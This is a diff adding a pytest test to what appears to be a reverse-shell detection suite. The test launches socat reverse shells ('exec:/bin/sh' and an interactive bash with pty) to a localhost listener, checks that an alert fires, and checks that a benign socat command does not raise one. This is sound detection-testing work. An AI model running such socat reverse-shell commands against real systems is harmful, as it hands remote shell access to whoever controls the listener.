@@ -172,6 +172,36 @@ def test_reverse_shell_python_pty(detecting):
     assert settled_alerts(w, REVERSE_SHELL, benign["exec_id"]) == []
 
 
+@pytest.mark.skipif(shutil.which("socat") is None, reason="needs socat")
+def test_reverse_shell_socat_exec(detecting):
+    """socat's exec: gives the shell a socketpair (or, with pty, a terminal) and relays it to the
+    TCP connection: the socket is on another fd of socat, the shell's parent."""
+    w = detecting
+    socat = os.path.realpath(shutil.which("socat"))
+    for address, argv in (("exec:/bin/sh", ["/bin/sh"]),
+                          ("exec:bash --norc -i,pty,stderr,setsid,sigint,sane", ["bash", "--norc", "-i"])):
+        lst = Listener()
+        try:
+            p = run(["socat", f"tcp:127.0.0.1:{lst.port}", address])
+            shell = exec_event(w, ppid=p.pid, argv=argv)
+            a = wait_alert(w, REVERSE_SHELL, shell["exec_id"])
+            assert (a["pid"], a["matched"]["parent_pid"], a["matched"]["parent_exe"]) == (shell["pid"], p.pid, socat)
+            [sock] = a["matched"]["parent_sockets"]
+            assert sock["protocol"] == "tcp" and sock["remote"] in (f"127.0.0.1:{lst.port}", None)
+        finally:
+            lst.close()
+        p.wait(60)
+    # look-alike: socat running one shell command (system: is sh -c) for the connection
+    lst = Listener()
+    try:
+        b = run(["socat", f"tcp:127.0.0.1:{lst.port}", f"system:echo {lst.port}"])
+        benign = exec_event(w, argv=["sh", "-c", f"echo {lst.port}"])  # under socat's fork
+    finally:
+        lst.close()
+    b.wait(60)
+    assert settled_alerts(w, REVERSE_SHELL, benign["exec_id"]) == []
+
+
 def test_reverse_shell_nc_fifo(detecting, workdir):
     w = detecting
     fifo = workdir / "f"
